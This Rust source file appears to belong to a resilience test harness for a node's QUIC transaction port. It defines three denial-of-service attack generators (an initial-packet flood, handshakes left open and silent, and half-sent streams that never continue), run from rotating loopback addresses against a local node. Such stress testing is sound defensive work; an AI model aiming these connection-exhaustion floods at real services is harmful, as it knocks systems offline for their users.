//! Attacks on the TPU's QUIC port: handshakes that stop, handshakes that end in a silent connection, streams that end
//! nowhere.

use std::collections::VecDeque;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use hearth_quic::{ALPN_TPU, ClientConfig};

use super::super::client::Sender;
use super::attacker::Attack;

/// The attacker's addresses, as last bytes of 127.0.0.x.
const HOSTS: std::ops::Range<u8> = 100..164;
/// Connections begun at once.
const AT_ONCE: u64 = 16;
/// A handshake that is not done after this long is left behind.
const HANDSHAKE_WITHIN: Duration = Duration::from_secs(1);
/// Sockets that are kept open, with their silent connections.
const HELD: usize = 64;
/// A first part of a transaction that never continues: more than a client with [`WINDOW`] may send unacknowledged.
const BEGINNING: [u8; 1200] = [0xdd; 1200];
const WINDOW: u64 = 600;

/// Takes the attacker's addresses in turn.
struct Hosts(u8);

impl Hosts {
    const fn new() -> Self {
        Self(HOSTS.start)
    }

    fn next(&mut self) -> u8 {
        let host = self.0;
        self.0 = if host + 1 == HOSTS.end { HOSTS.start } else { host + 1 };
        host
    }
}

/// Keeps the newest `HELD` senders open.
fn hold(held: &mut VecDeque<Sender>, sender: Sender) {
    held.push_back(sender);
    if held.len() > HELD {
        held.pop_front();
    }
}

/// Sends the first packets of connections, and nothing else.
pub struct Initials {
    node: SocketAddr,
    hosts: Hosts,
}

impl Initials {
    pub fn new(node: SocketAddr) -> Self {
        Self { node, hosts: Hosts::new() }
    }
}

impl Attack for Initials {
    fn burst(&mut self, count: u64) -> u64 {
        let count = count.min(AT_ONCE);
        Sender::new(self.node, self.hosts.next(), count as usize, ALPN_TPU).transmit();
        count
    }
}

/// Completes handshakes, and leaves the connections open and silent.
pub struct Handshakes {
    node: SocketAddr,
    hosts: Hosts,
    held: VecDeque<Sender>,
}

impl Handshakes {
    pub fn new(node: SocketAddr) -> Self {
        Self { node, hosts: Hosts::new(), held: VecDeque::new() }
    }
}

impl Attack for Handshakes {
    fn burst(&mut self, count: u64) -> u64 {
        let count = count.min(AT_ONCE);
        let mut sender = Sender::new(self.node, self.hosts.next(), count as usize, ALPN_TPU);
        let begun = Instant::now();
        while sender.counters().connected + sender.counters().disconnected < count {
            if begun.elapsed() > HANDSHAKE_WITHIN {
                break;
            }
            sender.step(Duration::from_millis(1));
        }
        hold(&mut self.held, sender);
        count
    }
}

/// Opens a stream on each of many connections, sends its beginning, and stays silent.
pub struct HalfStreams {
    node: SocketAddr,
    hosts: Hosts,
    held: VecDeque<Sender>,
}

impl HalfStreams {
    pub fn new(node: SocketAddr) -> Self {
        Self { node, hosts: Hosts::new(), held: VecDeque::new() }
    }
}

impl Attack for HalfStreams {
    fn burst(&mut self, _count: u64) -> u64 {
        let config = ClientConfig { send_window_bytes: WINDOW, ..ClientConfig::local() };
        let mut sender = Sender::with_config(config, self.node, self.hosts.next(), 1, ALPN_TPU);
        let begun = Instant::now();
        while !sender.offer(&BEGINNING) {
            if begun.elapsed() > HANDSHAKE_WITHIN {
                return 0;
            }
            sender.step(Duration::from_millis(1));
        }
        // The rest waits for acknowledgements, which are never read.
        sender.transmit();
        hold(&mut self.held, sender);
        1
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_are_taken_in_turn() {
        let mut hosts = Hosts::new();
        let taken: Vec<u8> = (0..HOSTS.len() + 1).map(|_| hosts.next()).collect();
        assert_eq!(taken[0], HOSTS.start);
        assert_eq!(taken[HOSTS.len() - 1], HOSTS.end - 1);
        assert_eq!(taken[HOSTS.len()], HOSTS.start);
    }
}
